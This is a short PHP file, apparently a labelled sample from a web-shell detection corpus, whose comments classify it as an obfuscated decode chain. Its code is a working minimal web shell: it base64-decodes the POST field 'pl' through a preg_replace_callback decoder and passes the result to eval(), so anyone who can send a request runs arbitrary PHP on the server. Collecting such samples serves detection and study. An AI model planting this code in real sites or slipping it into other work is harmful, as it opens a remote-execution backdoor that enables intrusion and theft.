<?php
// Family: obfuscation/decode-chain
// Style: preg_replace_callback decoder
// Trait: decoder used as a regex callback over request data, then evaluated
$code = preg_replace_callback('/.+/', function ($m) { return base64_decode($m[0]); }, $_POST['pl']);
eval($code);
